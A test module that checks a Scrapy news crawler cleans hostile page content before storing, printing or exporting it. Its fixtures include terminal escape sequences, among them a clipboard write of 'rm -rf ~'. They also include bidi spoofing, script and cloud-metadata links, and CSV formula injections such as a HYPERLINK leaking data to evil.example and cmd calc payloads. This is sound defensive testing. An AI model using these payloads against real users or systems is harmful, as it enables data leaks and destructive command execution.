"""What a hostile site's text does to the programs that read the store: the real ``scrapy crawl`` of a replica whose
pages carry terminal escape sequences (ANSI, OSC 52 writing the clipboard, BEL, C1 controls, NUL) in every field,
then the real ``scrapy articles``, whose output goes to an operator's terminal. No C0 control character is stored,
and ``scrapy articles`` escapes what a record holds (C1 controls, which mojibake is made of, stay stored). Titles that
are spreadsheet formulas (``=HYPERLINK("http://evil/?"&A1)``) reach CSV, from ``scrapy export --format csv`` and the
crawl's own feed export, as text a spreadsheet does not run."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.crawling import ROOT, CrawlResult, StoreCrawl, crawl_environment, log_excerpt
from tests.hostile_site import PARAGRAPHS, article, site_config

pytestmark = pytest.mark.e2e

DOMAIN = "output.tj"
ESC, BEL, CSI = "\x1b", "\x07", "\x9b"
# Clears the screen, moves up and erases the line, writes the operator's clipboard (OSC 52), rings, C1 CSI.
SEQUENCES = f"{ESC}[2J{ESC}[1A{ESC}[K{ESC}]52;c;cm0gLXJmIH4={BEL}{CSI}31m"
STORED_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")  # C0 controls but tab and line breaks, and DEL
SHOWN_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # and C1 controls, in a terminal


def escape_page(slug: str) -> bytes:
    """An article whose title, headline, lead, author, tags, image caption and paragraphs all carry escape sequences
    (the JSON-LD's as JSON escapes, with a NUL)."""
    title = f"Совещание{SEQUENCES} по энергетике"
    page = article(slug, title=title).replace(
        "<title>", f"<meta name='description' content='Лид{SEQUENCES} статьи'>"
                   f"<meta name='keywords' content='энергетика{SEQUENCES}, ГЭС'><title>")
    page = page.replace('"datePublished"', '"author": {"@type": "Person", "name": "Иван\\u0000\\u001b[8m Петров"}, '
                                           '"keywords": "вода\\u001b[2J, свет", "datePublished"')
    page = page.replace(f"<p>{PARAGRAPHS[0]}",
                        f"<figure><img src='/photo.jpg'><figcaption>Фото{SEQUENCES} ГЭС</figcaption></figure>"
                        f"<p>{SEQUENCES}{PARAGRAPHS[0]}")
    return page.encode()


# Bidirectional overrides and isolates, LRM/RLM, zero-width and tag characters: invisible, but they reorder or hide
# what a record shows (a title that displays "...Вас уволили" reversed, text only a language model reads).
SPOOF = "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\ufeff\U000e0041\U000e007f"
SPOOF_CHARS = re.compile(f"[{SPOOF}\u200c\u200d]")
PERSIAN = "می\u200cخواهم"  # "I want": its ZWNJ keeps the two letters apart, as Persian and Tajik write it
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # one emoji, joined by its ZWJs


def spoof_page(slug: str) -> bytes:
    """An article whose title, lead, author, tags and paragraphs carry bidi controls and invisible characters, next to
    a Persian word with its ZWNJ and an emoji with its ZWJs (which must stay)."""
    title = f"Совещание{SPOOF} по\u200c энергетике \u202eилидоваву{PERSIAN}"
    page = article(slug, title=title).replace(
        "<title>", f"<meta name='description' content='Лид{SPOOF} статьи {FAMILY}'>"
                   f"<meta name='keywords' content='энергетика\u202e, ГЭС\u2066'><title>")
    page = page.replace('"datePublished"', '"author": {"@type": "Person", "name": "Иван\\u202e Петров"}, '
                                           '"datePublished"')
    return page.replace(f"<p>{PARAGRAPHS[0]}", f"<p>\u202e{PARAGRAPHS[0]}\u2069 {PERSIAN} {FAMILY}").encode()


# Blank letters: Hangul fillers (U+3164, U+FFA0, the conjoining U+115F, U+1160), the Braille blank and the Khmer
# inherent vowels show as space but are no whitespace to str.split(): a page of nothing else was a stored article.
FILLERS = "\u3164\uffa0\u115f\u1160\u2800\u17b4\u17b5"


def blank_page(slug: str) -> bytes:
    """An article whose title, headline, lead and paragraphs are blank letters only."""
    page = article(slug, title=FILLERS * 3).replace(
        "<title>", f"<meta name='description' content='{FILLERS}'><title>")
    for paragraph in PARAGRAPHS:
        page = page.replace(paragraph, FILLERS * 40)
    return page.encode()


def pixel_page(slug: str) -> bytes:
    """An article whose photo sits beside tracking pixels of another host (declared one pixel by attribute or style)
    and a pixel-sized lazy-loading placeholder."""
    pixels = ("<img src='https://tracker.example/p.gif' width='1' height='1' alt=''>"
              "<figure><img src='//tracker.example/q.gif' style='width:0;height:0'></figure>"
              "<figure><img src='/photo.jpg' width='800'><figcaption>Фото ГЭС</figcaption></figure>"
              "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' data-src='/lazy.jpg' width='1' height='1'>")
    return article(slug).replace(f"<p>{PARAGRAPHS[1]}", f"{pixels}<p>{PARAGRAPHS[1]}").encode()


def script_links_page(slug: str) -> bytes:
    """An article whose hreflang links and canonical link run script, are documents or name the cloud metadata
    address, beside one good translation."""
    links = ("<link rel='alternate' hreflang='tg' href='javascript:alert(1)'>"
             "<link rel='alternate' hreflang='uz' href='data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;'>"
             "<link rel='alternate' hreflang='ky' href='http://169.254.169.254/latest/meta-data/'>"
             "<link rel='alternate' hreflang='en' href='https://en.output.tj/news/script-links/'>"
             "<link rel='canonical' href='javascript:alert(3)'>")
    return article(slug).replace("<title>", f"{links}<title>").encode()


# Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
FORMULAS = {
    "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
    "formula-plus": "+cmd|' /C calc'!A0 Совещание по энергетике",
    "formula-minus": "-2+3+cmd|' /C calc'!A0 Совещание",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0 Совещание",
}
PAGES = {"escape-codes": escape_page("escape-codes"), "bidi-spoof": spoof_page("bidi-spoof"),
         "plain-page": article("plain-page").encode(), "junk-validators": article("junk-validators").encode(),
         "blank-fillers": blank_page("blank-fillers"),
         "tracking-pixels": pixel_page("tracking-pixels"), "script-links": script_links_page("script-links"),
         **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}

STORED = set(PAGES) - {"blank-fillers"}  # the slugs stored: a page of blank letters has no title
# Response headers of ``/news/junk-validators/``: an ETag of escape sequences and 8,000 characters, a Last-Modified
# that is no date but a clipboard write. Both went to every record as sent (and to ``scrapy export``).
JUNK_VALIDATORS = {"ETag": f'"{SEQUENCES}{"x" * 8_000}"', "Last-Modified": f"{ESC}]52;c;cm0gLXJmIH4={BEL}"}


def build(root: Path) -> Path:
    """The replica under ``root`` (a feed of :data:`PAGES`); the site config's path."""
    for slug, body in PAGES.items():
        (root / "news" / slug).mkdir(parents=True)
        (root / "news" / slug / "index.html").write_bytes(body)
    items = "".join(f"<item><title>{slug}</title><link>https://{DOMAIN}/news/{slug}/</link>"
                    f"<pubDate>Fri, 20 Nov 2026 10:{n:02d}:00 +0500</pubDate></item>" for n, slug in enumerate(PAGES))
    (root / "feed").mkdir()
    (root / "feed" / "index.xml").write_text(f"<?xml version='1.0' encoding='UTF-8'?><rss version='2.0'><channel>"
                                             f"<title>Output</title>{items}</channel></rss>", encoding="utf-8")
    (root / "_server.json").write_text(json.dumps({"paths": {"/news/junk-validators/": {"headers": JUNK_VALIDATORS}}}))
    config = root.parent / "output.toml"
    config.write_text(site_config("output", DOMAIN, "Asia/Dushanbe"), encoding="utf-8")
    return config


@dataclass(frozen=True)
class Crawled:
    """The crawl of the replica into an embedded store, and the environment of a command reading that store."""

    result: CrawlResult
    env: dict[str, str]
    feed_csv: Path  # the crawl's own feed export (``FEEDS``)

    def command(self, *args: str) -> subprocess.CompletedProcess[str]:
        command = subprocess.run([sys.executable, "-m", "scrapy", *args], cwd=ROOT, env=self.env, text=True,
                                 capture_output=True, timeout=120, stdin=subprocess.DEVNULL)
        assert command.returncode == 0, command.stderr[-3000:]
        return command

    def records(self) -> dict[str, dict[str, Any]]:
        """The stored records by slug, as ``scrapy articles --json`` prints them."""
        lines = self.command("articles", "--json", "--limit", "100").stdout.splitlines()
        return {str(r["url"]).rstrip("/").rsplit("/", 1)[1]: r for r in map(json.loads, lines)}


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Crawled]:
    root = tmp_path_factory.mktemp("output") / "site"
    root.mkdir()
    config = build(root)
    feed_csv = root.parent / "items.csv"
    feeds = json.dumps({str(feed_csv): {"format": "csv"}})
    result = StoreCrawl(None, tmp_path_factory.mktemp("crawls"))(
        "news", f"config={config}", replica=root, settings=["ROBOTSTXT_OBEY=0", "RETRY_TIMES=0", f"FEEDS={feeds}"],
        timeout=120)
    assert result.returncode == 0, log_excerpt(result.stderr)
    yield Crawled(result, crawl_environment({}, result.data_dir), feed_csv)


def strings(value: Any) -> Iterator[str]:
    """Every string in a record, keys included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def test_no_c0_control_character_of_a_page_is_stored(crawled: Crawled) -> None:
    records = crawled.records()
    assert set(records) == STORED, log_excerpt(crawled.result.stderr)
    record = records["escape-codes"]
    found = {text[:80] for text in strings(record) if STORED_CONTROL.search(text)}
    assert not found
    assert record["title"] == f"Совещание[2J[1A[K]52;c;cm0gLXJmIH4={CSI}31m по энергетике"
    assert record["paragraphs"][0].endswith(PARAGRAPHS[0])
    assert record["lead"].startswith("Лид") and record["authors"] and record["tags"]


def test_a_response_header_of_junk_is_no_validator_of_the_record(crawled: Crawled) -> None:
    records = crawled.records()
    assert records["junk-validators"]["etag"] is None
    assert records["junk-validators"]["last_modified"] is None
    assert records["plain-page"]["etag"].startswith('"')  # the replica's own validators are kept
    assert records["plain-page"]["last_modified"].endswith(" GMT")


def test_no_bidi_control_or_invisible_character_of_a_page_is_stored(crawled: Crawled) -> None:
    record = crawled.records()["bidi-spoof"]
    found = {text[:80] for text in strings(record)
             if SPOOF_CHARS.search(text.replace(PERSIAN, "").replace(FAMILY, ""))}
    assert not found
    assert record["title"] == f"Совещание по энергетике илидоваву{PERSIAN}"
    assert record["authors"] == ["Иван Петров"]
    assert record["lead"] == f"Лид статьи {FAMILY}"
    assert record["paragraphs"][0] == f"{PARAGRAPHS[0]} {PERSIAN} {FAMILY}"


def test_a_page_of_blank_letters_only_is_no_article(crawled: Crawled) -> None:
    assert "blank-fillers" not in crawled.records()
    assert crawled.result.stats["validation/dropped/missing/title"] == 1


def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Crawled) -> None:
    shown = crawled.command("articles").stdout
    assert "Совещание[2J[1A[K]52;c;cm0gLXJmIH4=\\x9b31m по энергетике" in shown
    assert not SHOWN_CONTROL.search(shown)


def slug_of(url: str) -> str:
    return url.rstrip("/").rsplit("/", 1)[1]


def test_no_tracking_pixel_is_stored(crawled: Crawled) -> None:
    images = [image["url"] for image in crawled.records()["tracking-pixels"]["images"]]
    assert images == [f"https://{DOMAIN}/photo.jpg", f"https://{DOMAIN}/lazy.jpg"]
    exported = map(json.loads, crawled.command("export", "--with-html").stdout.splitlines())
    html = next(r["html"] for r in exported if slug_of(r["url"]) == "tracking-pixels")
    assert "/photo.jpg" in html and "/lazy.jpg" in html and "tracker.example" not in html


def test_no_link_of_a_record_runs_script(crawled: Crawled) -> None:
    record = crawled.records()["script-links"]
    assert record["url"] == f"https://{DOMAIN}/news/script-links/"
    assert record["translations"] == ["https://en.output.tj/news/script-links/"]
    assert crawled.result.stats["cleaning/removed/translation_url"] == 3


def test_stored_titles_are_the_pages_own(crawled: Crawled) -> None:
    records = crawled.records()
    assert {slug: records[slug]["title"] for slug in FORMULAS} == FORMULAS


@pytest.mark.parametrize("source", ["scrapy export", "feed export"])
def test_no_csv_cell_starts_as_a_formula(crawled: Crawled, tmp_path: Path, source: str) -> None:
    if source == "scrapy export":
        out = tmp_path / "export.csv"
        crawled.command("export", "--format", "csv", "-o", str(out))
    else:
        out = crawled.feed_csv
    with out.open(newline="", encoding="utf-8") as stream:
        rows = {slug_of(row["url"]): row for row in csv.DictReader(stream)}
    assert set(rows) == STORED
    assert {slug: rows[slug]["title"] for slug in FORMULAS} == {slug: f"'{title}" for slug, title in FORMULAS.items()}
    starts = {(slug, name): cell[:40] for slug, row in rows.items() for name, cell in row.items()
              if cell.startswith(("=", "+", "-", "@", "\t", "\r"))}
    assert not starts
